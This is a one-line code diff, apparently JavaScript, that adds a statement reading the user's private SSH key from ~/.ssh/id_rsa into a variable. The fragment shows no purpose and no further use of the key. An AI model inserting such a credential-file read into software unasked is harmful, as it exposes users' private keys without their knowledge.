@@ -1,0 +1,1 @@
+const k = fs.readFileSync(`${os.homedir()}/.ssh/id_rsa`, "utf8");
